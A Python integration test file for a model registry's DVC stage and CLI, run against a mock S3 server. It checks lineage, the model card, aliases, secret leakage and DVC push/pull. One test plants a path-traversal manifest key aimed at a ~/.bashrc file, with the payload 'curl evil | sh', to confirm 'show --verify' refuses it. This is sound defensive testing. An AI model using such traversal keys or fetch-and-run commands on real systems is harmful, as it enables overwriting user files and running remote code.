"""The registry's front ends against a real moto S3 server (and the local dir): the register DVC stage
(stages/register.py: lineage.json, model card, aliases, no secrets in objects, env/-S overrides and exit codes), the
`tutorforge registry` commands (`show --verify` refusing a hostile manifest in a real subprocess), and the DVC S3
remote with checkpoint mirroring (tutorforge/orchestration/dvc_remote.py). The protocol itself is tested in
test_registry.py."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
import yaml

from tests.support.registry_data import GATE, make_artifacts, new_bucket, write_params
from tests.support.registry_hostile import METRICS, plant_version, tree
from tutorforge.orchestration.dvc_remote import RemoteSpec, mirror_checkpoints, setup_dvc_remote
from tutorforge.registry.registry import Registry
from tutorforge.registry.store import LocalStore, S3Store

pytestmark = pytest.mark.integration


def test_register_stage_lineage_and_no_secrets(s3_server, tmp_path, monkeypatch, capfd):
    """The DVC stage end to end on S3: lineage.json, model card, staging alias; the secret key is nowhere."""
    import boto3

    from stages import register as stage

    secret = f"tf-SECRET-{uuid.uuid4().hex}"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    bucket = new_bucket(s3_server)
    work = tmp_path / "repo"
    src = make_artifacts(work / "artifacts", 1.8)
    (work / "data/annotations").mkdir(parents=True)
    (work / "data/annotations/export1.json").write_text("[]")
    (work / "artifacts/data_report.json").write_text(
        json.dumps(
            {
                "pretrain": {"train": {"records": 10}},
                "sft": {"train": {"records": 7, "by_kind": {}}},
                "sft_by_source": {},
            }
        )
    )
    dvc_yaml = {
        "stages": {
            "sft": {
                "cmd": "x",
                "deps": ["artifacts/pretrain/model"],
                "params": ["seed", "sft"],
                "outs": ["artifacts/sft/merged"],
            },
            "register": {"cmd": "y", "deps": ["artifacts/sft/merged"], "params": ["register"]},
        }
    }
    (work / "dvc.yaml").write_text(yaml.safe_dump(dvc_yaml))
    (work / "dvc.lock").write_text(
        yaml.safe_dump(
            {
                "schema": "2.0",
                "stages": {
                    "sft": {
                        "cmd": "x",
                        "deps": [{"path": "artifacts/pretrain/model", "md5": "aaa.dir"}],
                        "outs": [{"path": "artifacts/sft/merged", "md5": "bbb.dir"}],
                    }
                },
            }
        )
    )
    reg_params = {
        "name": "tutor",
        "registry": f"s3://{bucket}/reg",
        "endpoint_url": s3_server.url,
        "artifacts": {k: str(v.relative_to(work)) for k, v in src.items() if k != "metrics.json"},
        "metrics": "artifacts/metrics.json",
        "data_report": "artifacts/data_report.json",
        "output": "out/registration.json",
        "auto_promote": True,
        "gate": GATE,
    }
    (work / "params.yaml").write_text(
        yaml.safe_dump({"seed": 1, "sft": {"lr": 0.1}, "ingest": {"workers": 1}, "register": reg_params})
    )
    monkeypatch.chdir(work)
    assert stage.main([]) == 0
    first = (work / "out/registration.json").read_bytes()
    assert stage.main([]) == 0 and (work / "out/registration.json").read_bytes() == first  # idempotent
    rec = json.loads(first)
    assert rec["version"] == "v1" and rec["staging"] == "v1" and rec["production"] == "v1"
    reg = Registry(S3Store(f"s3://{bucket}/reg", s3_server.url))
    lin = json.loads(reg.read_file("tutor", "v1", "lineage.json"))
    assert lin["upstream_stages"] == ["sft"] and lin["dvc_lock"]["sft"]["outs"] == {"artifacts/sft/merged": "bbb.dir"}
    assert set(lin["params"]) == {"seed", "sft", "register"} and lin["data_counts"]["sft"] == {"train": 7}
    assert lin["annotation_snapshot"]["id"] and lin["annotation_snapshot"]["files"] == ["export1.json"]
    assert "git_commit" in lin and "git_dirty" in lin
    card = reg.read_file("tutor", "v1", "README.md").decode()
    assert "## Intended use" in card and "| metric | base | sft | delta |" in card
    assert "| answer_loss | 3.0 | 1.8 |" in card and "| bench.answer_loss |  | 1.8 |" in card  # nested: flattened
    assert "frozen benchmark tutor-v1 (digest 4eb85fb7499c)" in card and "| benchmark" not in card
    s3 = boto3.client("s3", endpoint_url=s3_server.url)
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket)["Contents"]]
    assert any(k.endswith("manifest.json") for k in keys) and any("/aliases/history/" in k for k in keys)
    for k in keys:
        assert secret.encode() not in s3.get_object(Bucket=bucket, Key=k)["Body"].read(), k
    out = capfd.readouterr()
    assert secret not in out.out + out.err and secret.encode() not in first


def test_register_stage_env_registry_overrides_and_errors(tmp_path, monkeypatch, capsys):
    """-S replaces the old flags; env TUTORFORGE_REGISTRY beats register.registry; bad params exit 2, a missing
    upstream output exits 1 (one line), and neither writes the registration."""
    from stages import register as stage

    src = make_artifacts(tmp_path / "artifacts", 1.8)
    (tmp_path / "params.yaml").write_text(
        yaml.safe_dump(
            {
                "register": {
                    "name": "tutor",
                    "registry": str(tmp_path / "not-this-one"),
                    "metrics": str(src["metrics.json"]),
                    "artifacts": {k: str(v) for k, v in src.items() if k != "metrics.json"},
                }
            }
        )
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TUTORFORGE_REGISTRY", str(tmp_path / "env-registry"))
    out = tmp_path / "out/registration.json"
    assert stage.main(["-S", "register.max_concurrency=0", "-S", f"register.output={out}"]) == 2
    assert "register.max_concurrency" in capsys.readouterr().err and not out.exists()
    assert stage.main(["-S", "register.metrics=missing.json", "-S", f"register.output={out}"]) == 1
    assert "missing.json" in capsys.readouterr().err and not out.exists()
    assert stage.main(["-S", "register.version=v7", "-S", f"register.output={out}"]) == 0
    rec = json.loads(out.read_text())
    assert rec["version"] == "v7" and rec["staging"] == "v7" and rec["production"] is None
    assert rec["uri"].startswith(str(tmp_path / "env-registry")) and not (tmp_path / "not-this-one").exists()
    assert Registry(LocalStore(tmp_path / "env-registry")).versions("tutor") == ["v7"]


def test_cli_list_show_promote_rollback(s3_server, tmp_path):
    from typer.testing import CliRunner

    from tutorforge.cli.app import app

    uri = f"s3://{new_bucket(s3_server)}/r"
    reg = Registry(S3Store(uri, s3_server.url))
    for i, loss in enumerate((2.0, 1.5)):
        reg.register("tutor", make_artifacts(tmp_path / f"a{i}", loss, tag=str(i)))
    run = lambda *a: CliRunner().invoke(  # noqa: E731
        app,
        ["registry", *a, "--registry", uri, "--params", str(write_params(tmp_path))],
        env={"TUTORFORGE_S3_ENDPOINT_URL": s3_server.url},
    )
    res = run("list")
    assert res.exit_code == 0 and "tutor" in res.output
    assert run("promote", "v1").exit_code == 0 and run("promote", "v2").exit_code == 0
    res = run("list", "--name", "tutor")
    assert res.exit_code == 0 and "production" in res.output and "v2" in res.output
    res = run("show", "production", "--verify")
    assert res.exit_code == 0 and "sft.answer_loss" in res.output and "verified" in res.output
    res = run("rollback")
    assert res.exit_code == 0 and reg.resolve("tutor", "production") == "v1"
    res = run("history")
    assert res.exit_code == 0 and "rollback" in res.output
    res = run("promote", "v1", "--alias", "production")
    assert res.exit_code == 0 and "already at" in res.output


@pytest.mark.parametrize("kind", ["absolute", "climbing"])
def test_cli_show_verify_refuses_hostile_manifest(s3_server, tmp_path, kind):
    """`tutorforge registry show --verify` (a real process) on a manifest whose key aims outside the download: one
    error line naming the key, exit 1, and the file it aims at is untouched (before the fix: overwritten, "verified")."""
    uri = f"s3://{new_bucket(s3_server)}/r"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export PATH=/usr/bin\n")
    target = str(home / ".bashrc")  # `show --verify` downloads into a system temp dir: climb to / and down to it
    key = target if kind == "absolute" else "sft/" + "../" * 40 + target.lstrip("/")
    plant_version(S3Store(uri, s3_server.url), "tutor", "v1", {"metrics.json": METRICS, key: b"curl evil | sh\n"})
    before = tree(home)
    res = subprocess.run(
        [sys.executable, "-m", "tutorforge.cli", "registry", "show", "v1", "--verify", "--registry", uri]
        + ["--params", str(write_params(tmp_path))],
        cwd=home,
        env={**os.environ, "TUTORFORGE_S3_ENDPOINT_URL": s3_server.url, "COLUMNS": "80"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert res.returncode == 1, res.stdout + res.stderr
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:") and repr(key) in lines[0], res.stderr
    assert "Traceback" not in res.stderr and "verified" not in res.stdout
    assert tree(home) == before


@pytest.mark.slow
def test_dvc_push_wipe_pull_and_mirror(s3_server, tmp_path):
    bucket = new_bucket(s3_server)
    repo = tmp_path / "repo"
    repo.mkdir()
    dvc = str(Path(sys.executable).parent / "dvc")
    env = {
        **os.environ,
        "DVC_NO_ANALYTICS": "1",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }

    def sh(*cmd: str) -> None:
        r = subprocess.run(cmd, cwd=repo, env=env, capture_output=True, text=True, timeout=240)
        assert r.returncode == 0, f"{cmd}: {r.stdout}\n{r.stderr}"

    sh("git", "init", "-q")
    sh(dvc, "init", "-q")
    data = os.urandom(100_000)
    (repo / "data.bin").write_bytes(data)
    sh(dvc, "add", "-q", "data.bin")
    setup_dvc_remote(RemoteSpec(url=f"s3://{bucket}/dvc", endpoint_url=s3_server.url), repo, dvc=dvc)
    local_cfg = (repo / ".dvc/config.local").read_text()
    assert s3_server.url in local_cfg and os.environ["AWS_SECRET_ACCESS_KEY"] not in local_cfg.replace(
        "endpointurl", ""
    )
    sh(dvc, "push", "-q")
    shutil.rmtree(repo / ".dvc/cache")
    (repo / "data.bin").unlink()
    sh(dvc, "pull", "-q")
    assert (repo / "data.bin").read_bytes() == data
    ck = tmp_path / "ckpt"
    (ck / "checkpoint-10").mkdir(parents=True)
    (ck / "checkpoint-10/model.safetensors").write_bytes(os.urandom(1000))
    (ck / "checkpoint-10/trainer_state.json").write_text("{}")
    uri = f"s3://{bucket}/checkpoints/pretrain"
    assert mirror_checkpoints(ck, uri, s3_server.url) == 2
    assert mirror_checkpoints(ck, uri, s3_server.url) == 0  # unchanged files are skipped
